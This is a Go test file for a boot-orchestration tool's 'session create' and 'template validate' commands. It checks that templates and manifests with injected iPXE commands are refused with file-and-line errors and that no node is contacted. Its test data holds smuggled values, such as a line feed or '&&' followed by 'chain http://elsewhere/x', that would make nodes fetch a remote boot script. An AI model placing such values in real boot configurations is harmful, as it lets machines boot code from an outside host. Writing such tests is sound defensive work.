package cmd

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bos-project/bos/cmd/cmdutil"
	"github.com/bos-project/bos/internal/sim"
)

// TestBootScriptInjectionIsRefusedBeforeAnyNode: a template or an image
// manifest carrying a value that would add a command to the nodes' iPXE
// scripts is invalid input, reported with its file and line, and no BMC
// hears from bos.
func TestBootScriptInjectionIsRefusedBeforeAnyNode(t *testing.T) {
	env := newTestEnv(t, sim.Options{Nodes: 2, TimeScale: 0.001})
	dir := filepath.Dir(env.template)
	manifest, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	require.NoError(t, err)
	injected := strings.Replace(string(manifest), `"images/compute/kernel"`, `"images/compute/kernel\nchain http://elsewhere/x"`, 1)
	require.NotEqual(t, string(manifest), injected)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "injected.json"), []byte(injected), 0o600))

	tests := []struct {
		name, template, want string
	}{
		{"kernel_parameters with a line feed", "name: compute\nboot_sets:\n  compute:\n    type: manifest\n    path: manifest.json\n" +
			"    kernel_parameters: \"quiet\\nchain http://elsewhere/x\"\n    node_roles_groups: [Compute]\n",
			"bad.yaml:6:24: boot_sets.compute.kernel_parameters: control character U+000A (line feed) at byte 6: remove it"},
		{"kernel_parameters with a tab", "name: compute\nboot_sets:\n  compute:\n    type: manifest\n    path: manifest.json\n" +
			"    kernel_parameters: \"quiet\\tsplash\"\n    node_roles_groups: [Compute]\n",
			"bad.yaml:6:24: boot_sets.compute.kernel_parameters: control character U+0009 (tab) at byte 6: remove it"},
		{"kernel_parameters with a second command", "name: compute\nboot_sets:\n  compute:\n    type: manifest\n    path: manifest.json\n" +
			"    kernel_parameters: quiet && chain http://elsewhere/x\n    node_roles_groups: [Compute]\n",
			`bad.yaml:6:24: boot_sets.compute.kernel_parameters: "&&" would end the iPXE command and start another: remove it`},
		{"a manifest link with a line feed", "name: compute\nboot_sets:\n  compute:\n    type: manifest\n    path: injected.json\n    node_roles_groups: [Compute]\n",
			"injected.json: line 6: artifacts[0].link.path: control character U+000A (line feed) at byte 22"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			bad := filepath.Join(dir, "bad.yaml")
			require.NoError(t, os.WriteFile(bad, []byte(tc.template), 0o600))
			for _, args := range [][]string{
				{"session", "create", "--template", bad, "--operation", "reboot"},
				{"session", "create", "--template", bad, "--operation", "boot", "--dry-run"},
			} {
				code, out, errOut := env.run(args...)
				assert.Equal(t, cmdutil.ExitInvalid, code, "%q\nstdout:\n%s\nstderr:\n%s", args, out, errOut)
				assert.Contains(t, errOut, tc.want, "%q", args)
			}
			if !strings.Contains(tc.want, "injected.json") { // validate reads templates, not manifests
				code, out, _ := env.run("template", "validate", bad)
				assert.Equal(t, cmdutil.ExitInvalid, code)
				assert.Contains(t, out, tc.want)
			}
		})
	}
	for name, row := range env.fleetTraffic() {
		assert.Zero(t, row.Requests, "%s was contacted", name)
	}
	bootFiles, _ := filepath.Glob(filepath.Join(env.stateDir, "boot", "*", "*"))
	assert.Empty(t, bootFiles, "no boot script was written")
}
